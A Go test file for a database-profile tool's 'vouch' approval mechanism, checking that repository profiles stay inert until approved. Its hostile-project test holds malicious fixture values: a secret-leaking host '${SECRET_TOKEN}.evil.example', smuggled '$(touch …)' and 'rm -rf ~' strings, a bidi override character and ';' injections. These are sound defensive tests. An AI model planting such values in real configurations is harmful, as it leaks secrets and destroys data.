//go:build unix

package main

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"gentleharbor/internal/testkit"
	"gentleharbor/standin/postgresql"
)

// project is a repository with a gharbor.toml, in which the program is run.
func project(t *testing.T, p *testkit.Program, text string) string {
	t.Helper()
	root := filepath.Join(t.TempDir(), "repository")
	if err := os.MkdirAll(filepath.Join(root, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	os.MkdirAll(filepath.Join(root, "deep", "er"), 0o755)
	p.Write(filepath.Join(root, "gharbor.toml"), text)
	p.Dir = filepath.Join(root, "deep", "er")
	return root
}

var hashLine = regexp.MustCompile(`hash of the(?:se|this|is): ([0-9a-f]{64})|hash of this: ([0-9a-f]{64})`)

// vouchFor vouches as CI does.
func vouchFor(t *testing.T, p *testkit.Program, names ...string) {
	t.Helper()
	shown := p.Run(append([]string{"vouch"}, names...)...)
	m := hashLine.FindStringSubmatch(shown.Stdout)
	if m == nil {
		t.Fatalf("no hash in\n%s%s", shown.Stdout, shown.Stderr)
	}
	p.OK(append([]string{"vouch", "-expect", m[1] + m[2]}, names...)...)
}

// TestVouch: a project's profile does nothing until it was vouched for, and again
// when a use of it has changed.
func TestVouch(t *testing.T) {
	if testkit.Alone(t) {
		return
	}
	p, server := standin(t, birds())
	base := "[profile.counts]\nengine = \"postgresql\"\nhost = \"${COUNTS:-127.0.0.1}\"\nport = %d\nuser = " +
		"\"warden\"\ndatabase = \"sightings\"\ncommand = [\"sh\", \"scripts/unlock.sh\"]\ntags = [\"team\"]\n"
	text := fmt.Sprintf(base, server.Port())
	root := project(t, p, text)
	script := filepath.Join(root, "scripts", "unlock.sh")
	p.Write(script, "echo dunlin\n")

	p.OK("list").Has("counts", "project, not approved", "${COUNTS:-127.0.0.1}", "you")
	p.OK("show", "counts").Has("you have not approved", "gharbor vouch counts", "sh,scripts/unlock.sh")
	connections := server.Connections()
	p.Test("counts").Ends(t, "profile", "fail", "profile.not-vouched")
	p.Run("with", "counts", "--", "true").Want(125).Has("profile.not-vouched")
	p.Run("export", "counts", "-as", "url").Want(4).Has("profile.not-vouched")
	p.Run("wait", "counts", "-within", "5s").Want(1).Has("profile.not-vouched")
	p.Run("certificate", "counts").Want(5).Has("profile.not-vouched")
	p.Run("test", "-tag", "team").Want(2).Has("1 profile of the project left out")
	p.OK("test", "-all").Has("1 profile of the project left out").HasNot("counts:")
	p.Run("vouch").Want(2).Has("no terminal to ask on", " ./scripts/unlock.sh", "file of the command  sha256:", "variable in host     COUNTS\n",
		"not hashed: what the program itself reads or runs")
	p.Run("vouch", "-expect", strings.Repeat("0", 64)).Want(1).Has("the hash is different")
	if server.Connections() != connections+1 { // that of -all
		t.Errorf("%d connections", server.Connections())
	}
	vouchFor(t, p, "counts")
	p.OK("test", "counts").Has("ready: ")
	p.OK("test", "-tag", "team").Has("ready")
	p.OK("vouch").Has("already approved")
	p.OK("vouch", "-list").Has("counts", "approved")
	p.OK("vouch", "-list", "-format", "json").Has(`"state": "vouched"`)

	rewritten := func(old, new string) {
		t.Helper()
		if !strings.Contains(text, old) {
			t.Fatal(old)
		}
		p.Write(filepath.Join(root, "gharbor.toml"), strings.Replace(text, old, new, 1))
	}
	rewritten("tags", "note = \"another note\"\nexpect.tables = [\"sighting\"]\ntags") // no uses
	p.OK("test", "counts").Has("ready: ")
	rewritten("[profile.counts]", "[profile.new]\nengine = \"mysql\"\nhost = \"h.example\"\n\n[profile.counts]")
	p.OK("test", "counts").Has("ready: ")
	for _, change := range [][2]string{{"127.0.0.1", "127.0.0.2"}, {"user = \"warden\"", "user = \"visitor\""}, {"tags", "tls = \"off\"\ntags"}, {"\"sh\",", "\"bash\","}, {"command " +
		"= [\"sh\", \"scripts/unlock.sh\"]", "secret = \"ask\""}} {
		rewritten(change[0], change[1])
		s := p.Test("counts").Ends(t, "profile", "fail", "profile.not-vouched")
		if !strings.Contains(s.SeenText(), "+ ") && !strings.Contains(s.SeenText(), "- ") {
			t.Errorf("no difference is shown: %s", s.SeenText())
		}
	}
	rewritten("tags", "tags")
	p.OK("test", "counts")
	p.Write(script, "echo dunlin # and something else\n")
	s := p.Test("counts").Ends(t, "profile", "fail", "profile.not-vouched")
	if !strings.Contains(s.SeenText(), "+ file of the command: sha256:") {
		t.Error(s.SeenText())
	}
	p.OK("vouch", "-list").Has("changed since")
	p.Run("vouch").Want(2).Has("changed since", "what it uses:")
	vouchFor(t, p)
	p.OK("vouch", "-withdraw", "counts").Has("withdrawn: counts")
	p.Test("counts").Ends(t, "profile", "fail", "profile.not-vouched")
	p.OK("vouch", "-withdraw", "counts").Has("none of that was approved")
	p.Run("vouch", "count").Want(2).Has(`did you mean "counts"?`)
	p.Run("vouch", "-list", "-withdraw").Want(2).Has("give one")

	// A user's profile may be like a project's, as long as it is vouched for.
	p.OK("add", "mine", "-like", "project:counts", "-secret", "env:DUNLIN")
	p.Test("mine").Ends(t, "profile", "fail", "profile.not-vouched")
	vouchFor(t, p)
	p.OK("test", "mine").Has("ready: ")
	p.Dir = t.TempDir()
	p.Test("mine").Ends(t, "profile", "fail", "profile.incomplete")
	p.Run("vouch").Want(2).Has("there is no gharbor.toml here")
	os.WriteFile(filepath.Join(p.Home, "vouched.toml"), []byte("nonsense"), 0o600)
	p.Dir = root
	p.Test("counts").Ends(t, "profile", "fail", "profile.not-vouched")
	p.Run("vouch", "-list").Want(3).Has("vouched.toml")
}

// TestVouchFiles: files of the repository that a profile names are hashed, and
// used as they were hashed.
func TestVouchFiles(t *testing.T) {
	if testkit.Alone(t) {
		return
	}
	p, server := standin(t, birds())
	root := project(t, p, fmt.Sprintf("[profile.counts]\nengine = \"postgresql\"\nhost = \"127.0.0.1\"\nport = "+
		"%d\nuser = \"warden\"\ndatabase = \"sightings\"\nsecret = \"file:pw/secret\"\n", server.Port())+
		"\n[profile.rings]\nengine = \"mysql\"\nhost = \"127.0.0.1\"\nuser = \"ringer\"\nsecret = "+
		"\"optionfile:my.cnf#rings\"\n"+
		"\n[profile.folder]\nengine = \"postgresql\"\nhost = \"127.0.0.1\"\nuser = \"warden\"\ncommand = [\"ls\", "+
		"\"pw\"]\n"+
		"\n[profile.outside]\nengine = \"postgresql\"\nhost = \"127.0.0.1\"\nuser = \"warden\"\nsecret = "+
		"\"file:~/secret\"\ntls-ca = \"gone.pem\"\n")
	secret := filepath.Join(root, "pw", "secret")
	p.Write(secret, "dunlin\n")
	p.Write(filepath.Join(root, "my.cnf"), "!include more.cnf\n")
	p.Write(filepath.Join(root, "more.cnf"), "[rings]\npassword=knot\n")
	p.Run("vouch", "rings").Has("'optionfile:my.cnf#rings'", "secret file    sha256:", " ./my.cnf", " ./more.cnf")
	p.Run("vouch", "folder").Want(3).Has("gharbor.toml:", "a folder of the repository (./pw)")
	p.Run("vouch", "outside").Has("outside of the repository, not hashed: ",
		"/secret, written 'file:~/secret'", "./gone.pem (not there)")
	vouchFor(t, p, "counts")
	p.OK("test", "counts").Has("ready: ")
	p.Write(secret, "knot\n")
	p.Test("counts").Ends(t, "profile", "fail", "profile.not-vouched")
	vouchFor(t, p, "rings")
	p.OK("vouch", "-list", "rings").Has("approved")
	p.Write(filepath.Join(root, "more.cnf"), "[rings]\npassword=knot2\n")
	p.OK("vouch", "-list", "rings").Has("changed since")
	os.Symlink("/etc/hostname", filepath.Join(root, "pw", "link"))
	if os.Getuid() == 0 {
		os.Chown(filepath.Join(root, "gharbor.toml"), 12345, 12345)
		p.OK("list").Has("it belongs to another user (12345), so it is ignored").HasNot("counts")
	}
}

// testHostileProject: what a cloned repository may try gets it nothing: no secret,
// no command, no dial.
func testHostileProject(t *testing.T) {
	trap, err := postgresql.Start(birds()) // whoever dials it is counted
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(trap.Close)
	p, server := standin(t, birds())
	w := withWallet(t, p)
	w.quickPut("sightings", "Reed-Bunting-Canary", "sightings")
	w.quickPut("loose", "Reed-Bunting-Canary", "")
	w.ok("unlock", "-lifetime", "1m")
	p.Setenv("SECRET_TOKEN", "Reed-Bunting-Canary")
	p.Passfile("*:*:*:*:Reed-Bunting-Canary")
	mark := filepath.Join(t.TempDir(), "mark")
	there := fmt.Sprintf("engine = \"postgresql\"\nhost = \"127.0.0.1\"\nport = %d\nuser = \"warden\"\ndatabase = "+
		"\"sightings\"\n", trap.Port())
	profiles := map[string]string{
		"command":   there + "command = [\"sh\", \"-c\", \"touch " + mark + "; echo x\"]\n",
		"path":      there + "secret = \"command:./run-me\"\n",
		"wallet":    there + "secret = \"wallet:sightings\"\n",
		"unbound":   there + "secret = \"wallet:loose\"\n",
		"default":   there,
		"sightings": there + "secret = \"env:SECRET_TOKEN\"\n", // a user's name
		"variable":  "engine = \"postgresql\"\nhost = \"${SECRET_TOKEN}.evil.example\"\nuser = \"warden\"\n",
		"weaker":    there + "tls = \"off\"\nsecret = \"wallet:sightings\"\n",
		"liked":     "like = \"default\"\nsecret = \"env:SECRET_TOKEN\"\n",
		"words": there + "note = \"\\u202e$(touch " + mark + ")`touch " + mark + "`; rm -rf ~\"\ntags = " +
			"[\"a;b\"]\n",
	}
	var text strings.Builder
	for name, body := range profiles {
		fmt.Fprintf(&text, "[profile.%s]\n%s\n", name, body)
	}
	root := project(t, p, text.String())
	p.Write(filepath.Join(root, "run-me"), "#!/bin/sh\ntouch "+mark+"\n")
	os.Chmod(filepath.Join(root, "run-me"), 0o755)
	nothing := func(args ...string) {
		t.Helper()
		r := p.Run(args...)
		testkit.NoSecret(t, strings.Join(args, " "), r.Stdout+r.Stderr, "Reed-Bunting-Canary")
		if strings.ContainsRune(r.Stdout+r.Stderr, '\u202e') {
			t.Errorf("%v prints what turns a line around", args)
		}
		if _, err := os.Stat(mark); err == nil {
			t.Errorf("%v ran a command", args)
			os.Remove(mark)
		}
	}
	for name := range profiles {
		if name != "sightings" {
			name = "project:" + name
		}
		for _, args := range [][]string{{"show", name}, {"list"}, {"test", "project:" + strings.TrimPrefix(name, "project:")}, {"vouch", name}, {"with", "project:" + strings.TrimPrefix(name, "project:"), "--", "touch", mark},
			{"export", "project:" + strings.TrimPrefix(name, "project:"), "-as", "env"}, {"secret", "keep", "project:" + strings.TrimPrefix(name, "project:"), "-generate", "20"}, {"certificate", "project:" + strings.TrimPrefix(name, "project:")}} {
			nothing(args...)
		}
	}
	nothing("test", "-all")
	nothing("audit")
	if trap.Connections() != 0 {
		t.Errorf("%d connections to where the project leads", trap.Connections())
	}
	p.OK("show", "sightings").Has("notice: the project also has a profile sightings",
		fmt.Sprint(server.Port())).HasNot(fmt.Sprint(trap.Port()))

	// Vouched for in good faith, a profile still gets no entry that is not bound there.
	for _, name := range []string{"wallet", "weaker", "unbound"} {
		vouchFor(t, p, name)
		s := p.Test(name).Ends(t, "secret", "fail", "secret.bound-elsewhere")
		testkit.NoSecret(t, name, s.SeenText(), "Reed-Bunting-Canary")
	}
	if trap.Connections() != 0 {
		t.Errorf("%d connections", trap.Connections())
	}
	for bad, want := range map[string]string{
		"[settings]\nwallet = \"x.ghw\"\n":                     "settings go in your profiles.toml",
		"[profile.a]\npassword = \"x\"\n":                      "profiles hold no passwords",
		"[profile.a]\nlike = \"project:b\"\n":                  "name a profile of the same file",
		"[profile.a]\nlike = \"sightings\"\n":                  "no profile",
		"[alias.archive]\npassword = \"evil\"\n":               "has no password",
		"[profile.a]\nnote = \"x\x1b[2J\"\n":                   "TOML",
		"[profile.a]\nengine = \"postgresql\"\nhost = \"a;b\"": "host",
	} {
		p.Write(filepath.Join(root, "gharbor.toml"), bad)
		p.OK("test", "sightings", "-override", "secret=env:DUNLIN").Has("notice: ", want)
		p.Run("vouch").Want(3).Has(want)
	}
}

// TestProjectEdits: -project writes the project's file, and an edit finds the file
// that has the name.
func TestProjectEdits(t *testing.T) {
	t.Parallel()
	p := testkit.NewProgram(t)
	root := project(t, p, "")
	path := filepath.Join(root, "gharbor.toml")
	os.Remove(path)
	p.OK("add", "counts", "-project", "-engine", "postgresql", "-host", "db.saltmarsh.example", "-user", "warden", "-tls-ca", "ca.pem").Has("saved: profile counts in "+path, "gharbor vouch counts")
	p.OK("set", "counts", "note=ours").Has("changed: profile counts in " + path)
	p.OK("copy", "counts", "more", "-project")
	p.Run("copy", "counts", "mine").Want(3).Has("profile.not-vouched", "gharbor vouch counts")
	vouchFor(t, p, "counts")
	p.Run("copy", "counts", "mine").Want(3).Has("uses files of the repository (./ca.pem)",
		"gharbor add mine -like project:counts")
	p.OK("set", "counts", "tls-ca=/etc/ssl/ca.pem")
	p.Run("copy", "counts", "mine").Want(3).Has("profile.not-vouched") // it has lapsed
	vouchFor(t, p, "counts")
	p.OK("copy", "counts", "mine").Has(filepath.Join(p.Home, "profiles.toml"))
	p.OK("set", "counts", "tls-ca=ca.pem")
	p.OK("rename", "project:more", "other")
	p.OK("remove", "other", "-yes").Has(path)
	p.Run("remove", "other", "-yes").Want(2)
	data, err := os.ReadFile(path)
	if err != nil || string(data) != "format = 1\n\n[profile.counts]\nengine = \"postgresql\"\nhost   = "+
		"\"db.saltmarsh.example\"\nuser   = \"warden\"\ntls-ca = \"ca.pem\"\nnote   = \"ours\"\n\n" {
		t.Errorf("%s %v", data, err)
	}
	if text := p.ReadProfiles(); !strings.Contains(text, "tls-ca = \"/etc/ssl/ca.pem\"") {
		t.Error(text)
	}
	entries, _ := os.ReadDir(root)
	if len(entries) != 3 { // .git, deep, gharbor.toml: no lock is left in the repository
		t.Errorf("%v", entries)
	}
	p.Run("add", "counts", "-project", "-engine", "mysql", "-host", "h").Want(2).Has("exists already")
	p.OK("add", "counts", "-engine", "mysql", "-host", "h")
	p.OK("list").Has("project:counts", "project, not approved")
	p.Run("shortcut", "project:counts", "x-counts", "-into", t.TempDir(), "--", "true").Want(2).Has("is the project's")
}
